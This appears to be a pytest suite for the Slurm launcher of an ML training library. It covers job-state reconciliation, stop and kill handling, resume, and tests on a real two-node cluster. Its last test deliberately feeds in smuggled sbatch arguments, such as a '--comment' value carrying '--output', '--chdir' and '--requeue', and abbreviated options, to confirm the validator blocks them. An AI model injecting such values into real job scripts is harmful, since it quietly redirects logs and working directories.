    script = render_script(SlurmOptions(), run_dir, nnodes=2, nproc=1, script=run_dir / "slurm.sbatch")
    got = defined_options(sbatch_here, script)
    assert got["output"] == f"{run_dir}/logs/launcher.log" and got["chdir"] == str(run_dir)
    assert got["job-name"] == f"mlora-{run_dir.name}"
    hashed = tmp_path / "runs#1" / "r"
    assert "'#'" in slurm_module.run_dir_problem(hashed)
    script = render_script(SlurmOptions(), hashed, nnodes=2, nproc=1, script=hashed / "slurm.sbatch")
    assert defined_options(sbatch_here, script)["chdir"] == f"{tmp_path}/runs"  # why '#' is refused


# -- the run's state from what Slurm says (Slurm's answers scripted) -------------------------------


@pytest.fixture
def slurm_run(llama_path, tmp_path, monkeypatch):
    """``slurm_run(answer, **status)``: a run directory recorded as Slurm job 42, whose ``scontrol``
    answer is ``answer`` (a SlurmJob, or None: Slurm forgot the job)."""

    made = iter(range(100))

    def make(answer: SlurmJob | None, **status):
        out = tmp_path / f"r{next(made)}"
        spec = ml.JobSpec(base_model=llama_path, tenants=[], stay_up=True, output_dir=str(out))
        run_dir = prepare_run(spec)
        ref = JobRef("slurm", "42")
        update_status(run_dir.root, **{"state": "queued", "launcher": "slurm", "launcher_job": ref, **status})
        monkeypatch.setattr(slurm_module, "query", lambda job_id: answer)
        return ml.attach(run_dir.root)

    return make


def test_a_pending_job_is_queued_with_slurms_reason(slurm_run):
    run = slurm_run(SlurmJob(42, "PENDING", "Resources"))
    assert run.status == "queued"
    assert run.reason == "Slurm job 42 is waiting in the queue (PENDING, reason Resources)"
    assert read_status(run.path).launcher_state is None


@pytest.mark.parametrize(
    ("state", "reason", "words"),
    [
        ("CANCELLED", "None", "was cancelled (scancel, or an administrator)"),
        ("TIMEOUT", "TimeLimit", "reached its time limit (TIMEOUT, reason TimeLimit"),
        ("NODE_FAIL", "NodeDown", "lost a node (NODE_FAIL, reason NodeDown"),
        ("OUT_OF_MEMORY", "OutOfMemory", "ran out of memory"),
        ("PREEMPTED", "None", "was preempted"),
        ("FAILED", "NonZeroExitCode", "failed (FAILED, reason NonZeroExitCode, exit code 1:0"),
    ],
)
def test_a_job_slurm_ended_is_failed_with_the_reason(slurm_run, state, reason, words):
    """Even after the job saved gracefully on Slurm's SIGTERM (status says stopped), a run Slurm
    ended is failed, unless this side asked for the stop."""
    run = slurm_run(
        SlurmJob(42, state, reason, "1:0" if state == "FAILED" else "0:15", "node[1-2]"), state="stopped"
    )
    assert run.status == "failed"
    assert words in run.error and "resume it from its last checkpoint" in run.error
    assert read_status(run.path).state == "stopped", "reading the state writes nothing"
    assert run.reconcile() == "failed"
    status = read_status(run.path)
    assert status.state == "failed" and status.launcher_state == state and status.ended


def test_the_jobs_own_error_is_kept_next_to_slurms(slurm_run):
    run = slurm_run(
        SlurmJob(42, "FAILED", "NonZeroExitCode", "1:0"), state="failed", error="rank 1: RuntimeError: boom"
    )
    assert run.status == "failed"
    assert "Slurm job 42 failed" in run.error and "the job said: rank 1: RuntimeError: boom" in run.error


def test_a_completed_job_keeps_the_state_it_wrote(slurm_run):
    assert slurm_run(SlurmJob(42, "COMPLETED", "None", "0:0"), state="finished").status == "finished"


def test_a_completed_job_that_wrote_no_end_is_failed(slurm_run):
    run = slurm_run(SlurmJob(42, "COMPLETED", "None", "0:0"), state="running")
    assert run.status == "failed" and "never wrote a final state" in run.error


def test_our_stop_ended_by_scancel_stays_stopped(slurm_run):
    run = slurm_run(SlurmJob(42, "CANCELLED", "None", "0:15"), state="stopped")
    control.request_stop(run.path)
    assert run.status == "stopped"


def test_a_job_slurm_forgot_without_an_end_is_lost(slurm_run):
    run = slurm_run(None, state="running")
    assert run.status == "lost" and "Slurm no longer knows job 42" in run.error


def test_while_slurm_runs_the_job_the_run_directory_says_how_far_it_got(slurm_run):
    assert slurm_run(SlurmJob(42, "RUNNING", "None")).status == "starting"  # queued -> Slurm started it
    run = slurm_run(SlurmJob(42, "RUNNING", "None"), state="running")
    assert run.status == "running"
    update_status(run.path, state="stopped")  # saved on Slurm's SIGTERM; Slurm's verdict follows
    assert run.status == "running"
    control.request_stop(run.path)  # our stop: it is over when Slurm says so too
    assert run.status == "running"


@pytest.mark.parametrize("written", ["stopped", "finished", "failed"])
@pytest.mark.parametrize("active", ["RUNNING", "COMPLETING"])
def test_a_run_whose_job_wrote_its_end_runs_until_slurm_ends_the_job(slurm_run, monkeypatch, written, active):
    """Rank 0 writes the end before its process, the torchrun agents, srun and the batch step exit:
    until Slurm says the job ended, the run is running (with Slurm's words), and nothing is recorded."""
    run = slurm_run(SlurmJob(42, active, "None", nodes="node[1-2]"), state=written, error="boom")
    control.request_stop(run.path)  # even the stop this side asked for
    assert run.status == "running" and run.reconcile() == "running"
    assert run.reason == (
        f"the job wrote '{written}', but Slurm job 42 is {active.lower()} ({active}, nodes node[1-2]): "
        "its processes are still ending"
    )
    assert read_status(run.path).launcher_state is None, "not recorded: Slurm is asked again"
    assert run.wait(timeout=0.3, poll=0.1) == "running"  # a timeout: not final, and the reason says why
    monkeypatch.setattr(slurm_module, "query", lambda job_id: SlurmJob(42, "COMPLETED", "None", "0:0"))
    assert run.wait(timeout=5, poll=0.1) == written  # (Slurm is asked at most once a second)
    assert read_status(run.path).launcher_state == "COMPLETED"


def test_the_cli_says_that_slurm_still_ends_the_job(slurm_run, capsys):
    run = slurm_run(SlurmJob(42, "RUNNING", "None"), state="stopped")
    assert cli.main(["status", str(run.path)]) == 0
    out = capsys.readouterr().out
    assert "running (step 0)" in out
    assert "running: the job wrote 'stopped', but Slurm job 42 is running (RUNNING): its processes" in out


def test_an_end_slurm_cannot_confirm_is_reported_not_returned(slurm_run, monkeypatch):
    """The run directory says stopped, but scontrol does not answer: the status shows the file's word,
    wait() and stop() go on asking, then raise saying why; nothing is recorded."""
    run = slurm_run(None, state="stopped")

    def down(job_id):
        raise slurm_module.SlurmError("scontrol show job 42 did not answer within 30 s (is slurmctld up?)")

    monkeypatch.setattr(slurm_module, "query", down)
    assert run.status == "stopped"  # believed, for the view
    for call in (lambda: run.wait(timeout=0.3, poll=0.1), lambda: run.stop(timeout=0.3)):
        with pytest.raises(slurm_module.SlurmError, match=r"says the run is stopped, but Slurm cannot say"):
            call()
    assert read_status(run.path).launcher_state is None


def test_a_kill_slurm_does_not_carry_out_is_reported_with_slurms_state(slurm_run, monkeypatch):
    run = slurm_run(SlurmJob(42, "COMPLETING", "None", nodes="node1"), state="running")
    killed = []
    monkeypatch.setattr(slurm_module, "kill", killed.append)
    with pytest.raises(
        slurm_module.SlurmError, match=r"Slurm job 42 is completing \(COMPLETING, nodes node1\)"
    ):
        run.liveness.kill(timeout=0.5)
    assert killed == [42]
    status = read_status(run.path)
    assert status.state == "running" and status.launcher_state is None, (
        "nothing recorded: Slurm is asked again"
    )


def test_a_kill_of_a_job_that_ended_meanwhile_is_its_end(slurm_run, monkeypatch):
    run = slurm_run(SlurmJob(42, "COMPLETED", "None", "0:0"), state="stopped")

    def refused(job_id):
        raise slurm_module.SlurmError(
            "scancel 42: scancel: error: Kill job error on job id 42: Invalid job id"
        )

    monkeypatch.setattr(slurm_module, "kill", refused)
    run.kill()
    assert read_status(run.path).launcher_state == "COMPLETED" and run.status == "stopped"


@pytest.mark.parametrize(
    ("state", "words"),
    [("queued", "cancelled while queued (scancel 42)"), ("running", "killed (scancel 42)")],
)
def test_a_killed_slurm_runs_error_names_the_scancel(slurm_run, monkeypatch, state, words):
    """The words users match on since before the seam: ``killed (scancel 42)``, ``cancelled while queued
    (scancel 42)``."""
    answer = SlurmJob(42, "PENDING", "Resources") if state == "queued" else SlurmJob(42, "RUNNING", "None")
    run = slurm_run(answer, state=state)
    assert run.status == state
    killed = []

    def kill(job_id):
        killed.append(job_id)
        monkeypatch.setattr(slurm_module, "query", lambda job_id: SlurmJob(42, "CANCELLED", "None", "0:9"))

    monkeypatch.setattr(slurm_module, "kill", kill)
    run.kill()
    status = read_status(run.path)
    assert killed == [42] and status.state == "stopped" and status.error == words
    assert status.launcher_state == status.slurm_state == "CANCELLED"


def test_sbatch_refusing_after_the_check_records_and_raises_its_own_words(llama_path, tmp_path, monkeypatch):
    """The check passed, then sbatch refused the job: the run is ``failed`` with sbatch's words as its
    error, and the SlurmError raised says the same."""
    from mlora_lab.lab.launchers.slurm import SlurmLauncher

    said = "sbatch refused the job: sbatch: error: Batch job submission failed: Invalid account"

    def refuse(script):
        raise slurm_module.SlurmError(said)

    monkeypatch.setattr(SlurmLauncher, "check", lambda self, spec, options, run_dir, resume=False: [])
    monkeypatch.setattr(slurm_module, "submit", refuse)
    spec = ml.JobSpec(base_model=llama_path, tenants=[], stay_up=True, output_dir=str(tmp_path / "r"))
    with pytest.raises(slurm_module.SlurmError) as err:
        ml.launch(spec, launcher="slurm")
    assert str(err.value) == said
    status = read_status(tmp_path / "r")
    assert status.state == "failed" and status.error == said and status.launcher_job is None


def test_run_slurm_job_is_still_slurms_record_with_a_deprecation(slurm_run):
    """``Run.slurm_job`` (before the seam) gives Slurm's own record, a SlurmJob, until mlora_lab 0.3 or
    2027-06-01, with a DeprecationWarning naming ``Run.engine_job``; None for a run Slurm does not run."""
    answer = SlurmJob(42, "PENDING", "Resources")
    run = slurm_run(answer)
    with pytest.warns(DeprecationWarning, match=r"Run\.slurm_job: deprecated, use Run\.engine_job") as w:
        assert run.slurm_job == answer
    assert "mlora_lab 0.3" in str(w.list[0].message) and "2027-06-01" in str(w.list[0].message)
    assert w.list[0].filename == __file__
    update_status(run.path, launcher="ray", launcher_job=JobRef("ray", "r1"))
    with pytest.warns(DeprecationWarning):
        assert run.slurm_job is None


def test_slurm_is_asked_no_more_once_it_gave_its_verdict(slurm_run, monkeypatch):
    run = slurm_run(SlurmJob(42, "TIMEOUT", "TimeLimit"), state="running")
    assert run.reconcile() == "failed"  # (recorded: wait(), stop(), the CLI and the dashboard reconcile)

    def no_more(job_id):
        raise AssertionError("Slurm asked again")

    monkeypatch.setattr(slurm_module, "query", no_more)
    assert ml.attach(run.path).status == "failed"


def test_the_dashboard_and_the_cli_say_why_a_run_is_queued(slurm_run, capsys):
    run = slurm_run(SlurmJob(42, "PENDING", "Priority"))
    dash = ml.Dashboard([run], interactive=False)
    dash.refresh()
    assert "queued" in dash.status.value and "PENDING, reason Priority" in dash.status.value
    assert cli.main(["status", str(run.path)]) == 0
    assert (
        "queued: Slurm job 42 is waiting in the queue (PENDING, reason Priority)" in capsys.readouterr().out
    )


def test_cli_slurm_options_reach_the_launcher(llama_path, tmp_path, monkeypatch, capsys):
    """Options given with the local launcher are refused; with Slurm they are validated like the API's."""
    spec = ml.JobSpec(base_model=llama_path, tenants=[], stay_up=True, output_dir=str(tmp_path / "r"))
    spec.to_json(tmp_path / "job.json")
    assert cli.main(["run", str(tmp_path / "job.json"), "--partition", "gpu"]) == 2
    assert "Slurm options were given, but the launcher is 'local'" in capsys.readouterr().err
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    argv = [
        "run",
        str(tmp_path / "job.json"),
        "--launcher",
        "slurm",
        "--time",
        "soon",
        "--sbatch-arg=--nodes=3",
    ]
    assert cli.main(argv) == 2
    err = capsys.readouterr().err
    assert "slurm.time must be a Slurm time limit" in err and "node count comes from parallel.nnodes" in err
    assert not (tmp_path / "r").exists()


# -- a real two-node cluster ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def cluster(tmp_path_factory):
    """A running local two-node Slurm (installed first if missing: CI runs as root). ``SLURM_CONF``
    points every Slurm command of this process (and the jobs it submits) at it."""
    why = slurm_cluster.install()
    if why is not None:
        if os.environ.get("CI"):
            pytest.fail(why)
        pytest.skip(why)
    local = slurm_cluster.LocalSlurm(tmp_path_factory.mktemp("slurm"))
    before = os.environ.get("SLURM_CONF")
    os.environ["SLURM_CONF"] = str(local.conf)
    try:
        local.start()
        yield local
    finally:
        local.stop()
        if before is None:
            os.environ.pop("SLURM_CONF", None)
        else:
            os.environ["SLURM_CONF"] = before


@pytest.fixture
def on_cluster(cluster):
    """Every job a test submits is ended when it ends, pass or fail."""
    yield cluster
    cluster.cancel_all()


@pytest.fixture(scope="module")
def data(tmp_path_factory) -> dict[str, str]:
    return task_files(tmp_path_factory.mktemp("slurm_data"))


def tenants(data: dict[str, str]) -> list[ml.Tenant]:
    return two_tenants(data, steps=(60, 45))


def job(base: str, ts: list[ml.Tenant], out: Path, nodes: int = 2, **kw) -> ml.JobSpec:
    parallel = ml.Parallel(nproc=1, nnodes=2, fsdp=2) if nodes == 2 else ml.Parallel(nproc=1)
    return ml.JobSpec(
        base_model=base,
        tenants=ts,
        seq_len=64,
        max_rank=8,
        max_tenants=3,
        save_every=5,
        parallel=parallel,
        output_dir=str(out),
        **kw,
    )


OPTIONS = SlurmOptions(time="20")


def losses(run: ml.Run) -> dict[tuple[str, int], float]:
    m = run.metrics()
    m = m[m["kind"] == "train"]
    return {(r.tenant, r.tenant_step): r.loss for r in m.itertuples()}


def adapters(run: ml.Run) -> dict[str, dict]:
    return {n: read_adapter(run.adapter_path(n))[1] for n in ("a", "b")}


def assert_same_training(run: ml.Run, reference: ml.Run, tol: float = 1e-5) -> None:
    got, want = losses(run), losses(reference)
    assert set(got) == set(want) and len(want) == 60 + 45
    worst = max(abs(got[k] - want[k]) for k in want)
    assert worst <= tol, worst
    assert_same_adapters(adapters(run), adapters(reference), tol)


def wait_for(what, predicate, run: ml.Run | None, timeout: float = 180, poll: float = 0.05):
    deadline = time.monotonic() + timeout
    while not (value := predicate()):
        if time.monotonic() > deadline:
            where = f"{run.status}: {run.reason}\n{run.logs(None)}" if run is not None else ""
            raise AssertionError(f"timed out waiting for {what}. {where}")
        time.sleep(poll)
    return value


def node_of(run: ml.Run, rank: int) -> str:
    """The Slurm node rank ``rank`` ran on, as its log says (torchrun's rendezvous orders the nodes)."""
    return re.search(r"\[rank \d+\] pid \d+ on Slurm node (\w+)", run.logs(rank, tail=None)).group(1)


def slurm_verdict(run: ml.Run) -> str:
    """Slurm's final state of the run's job, once the run has recorded it (reconciling asks Slurm)."""

    def seen() -> str | None:
        run.reconcile()
        return read_status(run.path).launcher_state

    return wait_for("Slurm's verdict", seen, run, poll=0.5)


def job_processes(run: ml.Run, job_id: int) -> list[str]:
    """Every process of the run's Slurm job still on this machine (both nodes are on it): the
    ``slurmstepd`` of each of its steps (``slurmstepd: [ID.batch]``, ``[ID.0]``, ``[ID.extern]``), and
    ``srun``, the torchrun agents and the workers, found by the run directory on their command line."""
    import psutil

    found = []
    for p in psutil.process_iter(["pid", "cmdline"]):
        line = " ".join(p.info["cmdline"] or [])
        if (f"[{job_id}." in line and "slurmstepd" in line) or str(run.path) in line:
            found.append(f"{p.info['pid']}: {line[:160]}")
    return found


def slurm_state(cluster, job_id: int) -> str:
    """What ``scontrol`` says of the job (its JobState), and whether ``squeue`` still lists it."""
    state = re.search(r"JobState=(\S+)", cluster.run("scontrol", "show", "job", str(job_id)).stdout)
    listed = str(job_id) in cluster.jobs()
    return f"{state.group(1) if state else '?'}{' (in squeue)' if listed else ''}"


def ended(cluster, job_id: int) -> bool:
    """Slurm says the job ended (a final JobState) and squeue no longer lists it."""
    state = slurm_state(cluster, job_id)
    return state.split(" ")[0] in slurm_module.FINAL_STATES and "squeue" not in state


def assert_nothing_of_the_job_is_left(cluster, run: ml.Run, job_id: int, stepd_grace: float = 0) -> None:
    """Slurm says the job ended and no process of it is left, at once; if not, say what lingered
    and for how long (watched for up to a minute).

    ``stepd_grace``: a job ends while its step's two slurmstepd may still run their own last seconds,
    after slurmctld has dropped the step (so no Slurm command shows them) and after the job's own
    processes are gone. Measured on Slurm 22.05: ~2.6 s after a failed step (``srun --kill-on-bad-exit``
    terminates it), 2.7 s after a killed one (``run.kill()``) and 3.4 s after a clean one, on a loaded
    machine. Those daemons, and only those, may take up to ``stepd_grace`` seconds to go."""
    state, procs = slurm_state(cluster, job_id), job_processes(run, job_id)
    if ended(cluster, job_id) and not procs:
        return
    if stepd_grace and ended(cluster, job_id) and all(f"slurmstepd: [{job_id}." in p for p in procs):
        step_gone = "not found" in cluster.run("scontrol", "show", "step", f"{job_id}.0").stdout
        deadline = time.monotonic() + stepd_grace
        while step_gone and job_processes(run, job_id) and time.monotonic() < deadline:
            time.sleep(0.2)
        if step_gone and not job_processes(run, job_id):
            return
    timeline, start = [], time.monotonic()
    while time.monotonic() - start < 60:
        now = (slurm_state(cluster, job_id), job_processes(run, job_id))
        if not timeline or timeline[-1][1:] != now:
            timeline.append((round(time.monotonic() - start, 1), *now))
        if not now[1] and ended(cluster, job_id):
            break
        time.sleep(0.5)
    lines = "\n".join(f"  +{t}s: Slurm {s}; processes {p}" for t, s, p in timeline)
    raise AssertionError(
        f"the run reads {read_status(run.path).state} but Slurm says {state}, and {len(procs)} processes "
        f"of job {job_id} are left:\n  " + "\n  ".join(procs) + f"\nafterwards:\n{lines}"
    )


@pytest.fixture(scope="module")
def local_reference(llama_path, data, tmp_path_factory) -> ml.Run:
    """The job on one local process, run through."""
    run = ml.launch(job(llama_path, tenants(data), tmp_path_factory.mktemp("local") / "run", nodes=1))
    assert run.wait(300) == "finished", run.logs(0)
    return run


@pytest.mark.slow
def test_a_partition_slurm_refuses_creates_nothing(on_cluster, llama_path, data, tmp_path):
    with pytest.raises(ml.SpecError, match=r"Slurm would refuse the job: .*[Ii]nvalid partition"):
        ml.launch(
            job(llama_path, tenants(data), tmp_path / "run"),
            launcher="slurm",
            slurm=SlurmOptions(partition="nosuch"),
        )
    assert not (tmp_path / "run").exists()
    assert on_cluster.jobs() == []


@pytest.mark.slow
def test_queued_while_the_cluster_is_full_then_a_live_tenant_then_a_graceful_stop(
    on_cluster, llama_path, data, tmp_path
):
    blocker = on_cluster.run(
        "sbatch", "--parsable", "-N2", "--wrap", "sleep 600", "-o", "/dev/null"
    ).stdout.strip()
    assert blocker.isdigit()
    wait_for(
        "the blocker to run",
        lambda: on_cluster.run("squeue", "-h", "-j", blocker, "-o", "%T").stdout.strip() == "RUNNING",
        None,
    )
    long = [
        ml.Tenant(name="a", data=data["reverse"], rank=4, lr=1e-3, batch_size=2, max_steps=100_000, seed=1)
    ]
    run = ml.launch(job(llama_path, long, tmp_path / "run"), launcher="slurm", slurm=OPTIONS)
    assert run.status == "queued"
    reason = wait_for("Slurm's reason", lambda: "Resources" in (run.reason or "") and run.reason, run)
    assert re.fullmatch(r"Slurm job \d+ is waiting in the queue \(PENDING, reason Resources\)", reason)
    time.sleep(2)
    assert run.status == "queued" and not list((run.path / "logs").glob("rank*.log"))

    on_cluster.run("scancel", blocker)
    wait_for("the first steps", lambda: run.global_step >= 3, run)
    assert run.status == "running"
    request = run.add_tenant(
        ml.Tenant(name="c", data=data["upper"], rank=8, lr=1e-3, max_steps=5), timeout=120
    )
    step = request.result.step
    for rank in (0, 1):  # both nodes' ranks applied it at the same step
        log = run.logs(rank, tail=None)
        assert f"control message {request.id} applied at step {step}: add 'c'" in log, log[-2000:]
    assert {node_of(run, 0), node_of(run, 1)} == {"node1", "node2"}
    wait_for("tenant c to finish", lambda: run.tenant_state("c") == "finished", run)

    assert run.stop(timeout=120) == "stopped", run.logs(0)
    assert_nothing_of_the_job_is_left(on_cluster, run, read_status(run.path).slurm_job_id)
    latest, _ = checkpoint.latest_intact(run.path / "checkpoints")
    assert latest is not None and checkpoint.read_checkpoint(latest)["tenants"]["a"]["step"] > 0
    assert run.adapter_path("a").is_dir() and run.adapter_path("c").is_dir()
    assert slurm_verdict(run) == "COMPLETED"  # the job ended itself: no scancel
    status = read_status(run.path)
    assert status.state == "stopped" and status.error is None


def interrupted(cluster, llama_path, data, folder: Path, interrupt) -> ml.Run:
    """Launch the reference job on Slurm, ``interrupt(run)`` once its first checkpoint is written,
    and return the run once it has ended (Slurm ended the job: nothing of it is left)."""
    run = ml.launch(job(llama_path, tenants(data), folder / "run"), launcher="slurm", slurm=OPTIONS)
    wait_for("the first checkpoint", lambda: any((run.path / "checkpoints").glob("step_*/meta.json")), run)
    interrupt(run)
    assert run.wait(120) == "failed", f"{run.status}: {run.error}"
    assert_nothing_of_the_job_is_left(cluster, run, read_status(run.path).slurm_job_id, stepd_grace=10)
    return run


def checkpoint_steps(run: ml.Run) -> list[int]:
    """The global steps of the run's complete checkpoints."""
    return sorted(
        int(p.parent.name.split("_")[1]) for p in (run.path / "checkpoints").glob("step_*/meta.json")
    )


@pytest.mark.slow
def test_two_slurm_nodes_equal_one_local_process_through_scancel_and_kill_9(
    on_cluster, llama_path, data, local_reference, tmp_path
):
    """A job on two Slurm nodes is cancelled by scancel (failed, with Slurm's reason), resumed on Slurm;
    the resumed job loses one node's worker to SIGKILL (failed), is resumed again, and the run ends
    exactly like the same job on one local process straight through (one run for the three: each
    interruption's resume must continue exactly, and so must the last one)."""
    run = interrupted(
        on_cluster,
        llama_path,
        data,
        tmp_path,
        lambda r: on_cluster.run("scancel", str(read_status(r.path).slurm_job_id)),
    )
    assert re.search(
        r"Slurm job \d+ was cancelled \(scancel, or an administrator\) \(CANCELLED", run.error
    ), run.error
    assert run.global_step < 60, "interrupted mid-run"
    status = read_status(run.path)
    assert status.launcher == "slurm" and status.slurm_job_id is not None
    assert (run.path / "slurm.sbatch").is_file() and json.loads((run.path / "slurm.json").read_text())[
        "time"
    ] == "20"

    # resumed on Slurm (the run's own launcher), then a worker of one node killed outright
    first_job, saved = status.slurm_job_id, checkpoint_steps(run)[-1]
    resumed = ml.resume(run.path, launcher="slurm")
    assert read_status(run.path).slurm_job_id not in (None, first_job)
    wait_for("a checkpoint of the resumed job", lambda: checkpoint_steps(resumed)[-1] > saved, resumed)
    *_, pid = re.findall(r"\[rank 1\] pid (\d+) on Slurm node", resumed.logs(1, tail=None))
    os.kill(int(pid), signal.SIGKILL)
    assert resumed.wait(120) == "failed", f"{resumed.status}: {resumed.error}"
    assert_nothing_of_the_job_is_left(on_cluster, resumed, read_status(run.path).slurm_job_id, stepd_grace=10)
    assert resumed.global_step < 60, "interrupted mid-run"
    assert slurm_verdict(resumed) in ("FAILED", "CANCELLED")
    assert "Slurm job" in resumed.error and "resume it from its last checkpoint" in resumed.error, (
        resumed.error
    )

    again = ml.resume(run.path, launcher="slurm", nnodes=2)
    job_id = read_status(run.path).slurm_job_id
    assert again.wait(300) == "finished", (
        f"{again.error}\n{again.logs(None)}\n{again.logs(0)}\n{again.logs(1)}"
    )
    assert_nothing_of_the_job_is_left(on_cluster, again, job_id)
    assert_same_training(again, local_reference)
    # each rank ran on its own node, and its log is read from the run directory whatever node wrote it
    assert {node_of(again, 0), node_of(again, 1)} == {"node1", "node2"}
    assert f"slurm job {job_id} on node[1-2]" in again.logs(None)
    assert slurm_verdict(again) == "COMPLETED"


@pytest.mark.slow
def test_the_command_line_launches_follows_and_resumes_on_slurm(
    on_cluster, llama_path, data, tmp_path, capsys
):
    spec = job(
        llama_path, [ml.Tenant(name="a", data=data["reverse"], rank=4, max_steps=100_000)], tmp_path / "run"
    )
    spec.to_json(tmp_path / "job.json")
    assert (
        cli.main(["run", str(tmp_path / "job.json"), "--launcher", "slurm", "--time", "15", "--no-follow"])
        == 0
    )
    run = ml.attach(capsys.readouterr().out.strip())
    assert (
        read_status(run.path).launcher == "slurm" and "--time=15" in (run.path / "slurm.sbatch").read_text()
    )
    wait_for("the first steps", lambda: run.global_step >= 2, run)
    assert cli.main(["stop", str(run.path), "--timeout", "120"]) == 0
    assert "stopped" in capsys.readouterr().out
    assert_nothing_of_the_job_is_left(on_cluster, run, read_status(run.path).slurm_job_id)
    assert cli.main(["resume", str(run.path), "--no-follow"]) == 0  # Slurm again: the run's own launcher
    assert (
        "--time=15" in (run.path / "slurm.sbatch").read_text()
        and "--resume" in (run.path / "slurm.sbatch").read_text()
    )
    wait_for("the resumed job to run", lambda: run.status == "running", run)
    assert run.stop(timeout=120) == "stopped"
    assert_nothing_of_the_job_is_left(on_cluster, run, read_status(run.path).slurm_job_id)


STOPS = ("stop()", "mlora-lab stop", "the stop file, then wait()", "kill()")


@pytest.mark.slow
@pytest.mark.parametrize("how", STOPS)
def test_a_stopped_slurm_job_is_over_when_stop_and_wait_return(
    on_cluster, llama_path, data, tmp_path, capsys, how
):
    """Issue 21: after ``stop()`` + ``wait()`` of a 2-node job the run read ``stopped`` while squeue
    still listed the job as R and its srun and slurmstepd processes lived on (rank 0 writes the end
    seconds before the workers, the torchrun agents, srun and the steps exit, and the run believed
    it). Whichever way the job is stopped, once the call returns Slurm says the job ended and nothing
    of it is left; a graceful stop ends the job itself (COMPLETED), a kill SIGKILLs it (its batch
    script fails or is cancelled, whichever Slurm sees first)."""
    long = [ml.Tenant(name="a", data=data["reverse"], rank=4, batch_size=2, max_steps=100_000, seed=1)]
    run = ml.launch(job(llama_path, long, tmp_path / "run"), launcher="slurm", slurm=OPTIONS)
    job_id = read_status(run.path).slurm_job_id
    wait_for("the first steps", lambda: run.global_step >= 2, run)
    assert len(job_processes(run, job_id)) >= 7  # batch and 2 step stepds, srun, 2 agents, 2 workers
    if how == "stop()":
        assert run.stop(timeout=120) == "stopped", run.error
        assert_nothing_of_the_job_is_left(on_cluster, run, job_id, stepd_grace=10)
        assert run.wait(0) == "stopped"
    elif how == "mlora-lab stop":
        assert cli.main(["stop", str(run.path), "--timeout", "120"]) == 0
        assert capsys.readouterr().out.strip() == f"{run.path}: stopped"
        assert_nothing_of_the_job_is_left(on_cluster, run, job_id, stepd_grace=10)
    elif how == "the stop file, then wait()":  # (the dashboard's Stop button writes it)
        control.request_stop(run.path)
        assert run.wait(120) == "stopped", run.error
        assert_nothing_of_the_job_is_left(on_cluster, run, job_id, stepd_grace=10)
    else:
        run.kill()
        assert_nothing_of_the_job_is_left(on_cluster, run, job_id, stepd_grace=10)
        assert run.status == "stopped" and run.error == f"killed (scancel {job_id})"
        # SIGKILL, not Slurm's SIGTERM (on which the job would save and write its own end)
        assert "done after" not in run.logs(0, tail=None) and read_status(run.path).error == run.error
    ended = read_status(run.path).launcher_state
    assert ended in ("CANCELLED", "FAILED") if how == "kill()" else ended == "COMPLETED"
    assert cli.main(["status", str(run.path)]) == 0
    assert capsys.readouterr().out.startswith(f"{run.path}: stopped")


def scontrol_job(cluster, job_id: str) -> dict[str, str]:
    out = cluster.run("scontrol", "show", "job", "-o", job_id).stdout
    return dict(re.findall(r"(?:^|\s)([A-Za-z]+)=(\S*)", out))


@pytest.mark.slow
def test_on_slurm_an_accepted_extra_keeps_the_jobs_log_directory_and_requeue(on_cluster, tmp_path):
    """Slurm itself takes the launcher's script with each accepted extra (``sbatch --test-only``), and a
    held job of it has the launcher's log, working directory, no requeue, node count and name, as
    ``scontrol show job`` reads them; the same script with a refused entry (not validated) would have
    had Slurm write the log elsewhere, run elsewhere and requeue the job."""
    run_dir = tmp_path / "run"
    (run_dir / "logs").mkdir(parents=True)

    def held(extra: list[str]) -> dict[str, str]:
        script = render_script(SlurmOptions(time="5", extra=extra), run_dir, 2, 1, run_dir / "slurm.sbatch")
        assert slurm_module.test_submit(script) is None, extra
        (tmp_path / "held.sbatch").write_text(script)
        proc = on_cluster.run("sbatch", "--parsable", "--hold", str(tmp_path / "held.sbatch"))
        assert proc.returncode == 0, proc.stderr
        job_id = proc.stdout.strip()
        try:
            return scontrol_job(on_cluster, job_id)
        finally:
            on_cluster.run("scancel", job_id)

    accepted = ["--mem=0", "--exclusive", "-H", '--comment="--output=/elsewhere --chdir=/ --requeue"']
    assert SlurmOptions(extra=accepted).problems(2, 1) == []
    for extra in [[], *[[entry] for entry in accepted], accepted]:
        job = held(extra)
        assert job["StdOut"] == job["StdErr"] == str(run_dir / "logs" / "launcher.log"), (extra, job)
        assert (job["WorkDir"], job["Requeue"], job["NumNodes"]) == (str(run_dir), "0", "2-2"), (
            extra,
            job,
        )  # pending: min-max
        assert job["JobName"] == "mlora-run" and job["JobState"] == "PENDING", (extra, job)

    refused = "--qos=normal --outp=/tmp --chd=/ --requ"
    assert len(SlurmOptions(extra=[refused]).problems(2, 1)) == 4
    job = held([refused])
    assert (job["StdOut"], job["WorkDir"], job["Requeue"]) == ("/tmp", "/", "1"), job
